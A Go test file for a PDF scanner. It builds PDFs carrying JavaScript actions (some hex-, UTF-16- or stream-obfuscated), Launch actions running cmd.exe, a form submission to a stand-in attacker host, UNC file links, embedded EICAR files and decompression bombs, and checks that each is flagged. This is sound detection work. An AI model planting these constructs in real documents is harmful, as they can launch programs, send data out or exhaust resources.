package archive

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// pdfStream makes a stream object.
func pdfStream(dict string, data []byte) string {
	return fmt.Sprintf("<<%s/Length %d>>stream\r\n%s\r\nendstream", dict, len(data), data)
}

func packed(t testing.TB, s string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// makePDF numbers the objects from 1.
func makePDF(objects ...string) []byte {
	var b strings.Builder
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	return []byte(b.String() + "trailer <</Root 1 0 R>>\nstartxref\n0\n%%EOF\n")
}

func TestPDFDocuments(t *testing.T) {
	hidden := "10 0 11 30 " // two objects of an object stream
	inner := "<</S/JavaScript/JS 12 0 R>>   <</S/Launch/F(cmd.exe)>>"
	for _, test := range []struct {
		name    string
		objects []string
		members []string // path=content
		symbols []string
		links   []string
	}{
		{"a page", []string{"<</Type/Catalog/Pages 2 0 R/OpenAction[2 0 R/Fit]>>", "<</Type/Pages/Kids[]/Count 0>>"}, nil, nil, nil},
		{"a script", []string{"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"}, []string{"script-1.js=app.alert(1)"}, []string{"pdf action", "pdf javascript"}, nil},
		{"a script with its name in hexadecimal", []string{"<</S/J#61vaScript/J#53 <61 6c657274>>>"}, []string{"script-1.js=alert"}, []string{"pdf javascript"}, nil},
		{"a script in 16 bits", []string{"<</JS<FEFF006100620063>>>"}, []string{"script-1.js=abc"}, []string{"pdf javascript"}, nil},
		{"a script in a stream behind a reference", []string{"<</OpenAction 2 0 R>>", "<</S/JavaScript/JS 3 0 R>>", pdfStream("/Filter/FlateDecode", packed(t, "evil()"))},
			[]string{"script-1.js=evil()"}, []string{"pdf action", "pdf javascript"}, nil},
		{"a script in an object stream", []string{pdfStream("/Type/ObjStm/N 2/First 11/Filter/FlateDecode", packed(t, hidden+inner)), "<<>>", "<<>>", "<<>>", "<<>>", "<<>>", "<<>>", "<<>>", "<<>>", "<<>>", "<<>>", "(evil())"},
			[]string{"script-1.js=evil()"}, []string{"pdf javascript", "pdf launch"}, []string{"launch cmd.exe"}},
		{"a program to start", []string{"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"}, nil, []string{"pdf launch"}, []string{"launch cmd.exe"}},
		{"a link", []string{"<</Type/Annot/A<</S/URI/URI(https://example.com/a\\)b)>>>>"}, nil, nil, []string{"uri https://example.com/a)b"}},
		{"another document", []string{"<</S/GoToR/F(\\\\\\\\host\\\\share\\\\x.pdf)>>"}, nil, nil, []string{`file \\host\share\x.pdf`}},
		{"a form that is sent", []string{"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>"}, nil, []string{"pdf submit"}, []string{"submit http://evil.example/"}},
		{"an attached file", []string{"<</Type/Filespec/F(a.exe)/UF<FEFF0062002E006500780065>/EF<</F 2 0 R>>>>", pdfStream("/Type/EmbeddedFile/Filter[/ASCIIHexDecode/FlateDecode]", fmt.Appendf(nil, "%x>", packed(t, eicar)))},
			[]string{"b.exe=" + eicar}, []string{"pdf embedded"}, nil},
		{"an attached file that nobody names", []string{pdfStream("/Type/EmbeddedFile", []byte(eicar))}, []string{"part-1=" + eicar}, []string{"pdf embedded"}, nil},
		{"an attached zip", []string{pdfStream("/Type/EmbeddedFile", makeZip(t, file{name: "v.exe", content: eicar}))}, []string{"part-1 › v.exe=" + eicar}, []string{"pdf embedded"}, nil},
		{"a wrong length", []string{"<</Type/EmbeddedFile/Length 99999>>stream\n" + eicar + "\nendstream"}, nil, []string{"pdf embedded"}, nil},
		{"a form with a script", []string{"<</AcroForm<</XFA[(template) 2 0 R]>>>>", pdfStream("/Filter/FlateDecode", packed(t, "<script contentType='application/x-javascript'>evil()</script>"))},
			[]string{"script-1.js=<script contentType='application/x-javascript'>evil()</script>"}, []string{"pdf javascript"}, nil},
		{"an object inside the data of a stream", []string{pdfStream("", []byte("x\n7 0 obj <</JS(hidden\\(\\))>> endobj\n"))}, []string{"script-1.js=hidden()"}, []string{"pdf javascript"}, nil},
		{"an unknown filter", []string{pdfStream("/Type/EmbeddedFile/Filter/JBIG2Decode", []byte("x"))}, []string{"part-1="}, []string{"archive method", "pdf embedded"}, nil},
		{"an object stream that is junk", []string{pdfStream("/Type/ObjStm/N 2/First 11/Filter/FlateDecode", []byte("\x00\xff\x00\xff junk"))}, nil, []string{"pdf damaged"}, nil},
		{"references that lead in a circle", []string{"<</JS 2 0 R>>", "3 0 R", "2 0 R"}, nil, []string{"pdf javascript"}, nil},
	} {
		t.Run(test.name, func(t *testing.T) {
			w := open(t, "a.pdf", makePDF(test.objects...), Limits{})
			w.expect(t, test.symbols...)
			for _, want := range test.members {
				if !slices.Contains(w.contents(), want) {
					t.Errorf("no %q among %q", want, w.contents())
				}
			}
			for _, want := range test.links {
				if !slices.ContainsFunc(w.Links, func(l Link) bool { return l.Kind+" "+l.URL == want }) {
					t.Errorf("no link %q among %v", want, w.Links)
				}
			}
		})
	}
}

func TestPDFWithAnUnknownHandlerIsEncrypted(t *testing.T) {
	content := makePDF("<</Filter/Adobe.PubSec/V 4>>")
	content = bytes.Replace(content, []byte("/Root 1 0 R"), []byte("/Root 1 0 R/Encrypt 1 0 R"), 1)
	w := open(t, "a.pdf", content, Limits{})
	w.expect(t, "pdf encrypted")
}

func TestPDFBombsEnd(t *testing.T) {
	zeros, _ := deflated(t, make([]byte, 32<<10), 64<<20)
	bomb := append([]byte("\x78\x9c"), zeros...)
	var objects []string
	for range 40 {
		objects = append(objects, pdfStream("/Type/ObjStm/N 1/First 10/Filter/FlateDecode", bomb))
	}
	w := open(t, "a.pdf", makePDF(objects...), Limits{})
	if !w.has("pdf damaged") {
		t.Errorf("findings:\n%s", w.reasons())
	}
	w = open(t, "a.pdf", makePDF(pdfStream("/Type/EmbeddedFile/Filter/FlateDecode", bomb)), Limits{})
	w.expect(t, "archive ratio", "pdf embedded")
	w = open(t, "a.pdf", []byte("%PDF-1.4\n1 0 obj "+strings.Repeat("[", 200_000)), Limits{})
	w.expect(t)
}
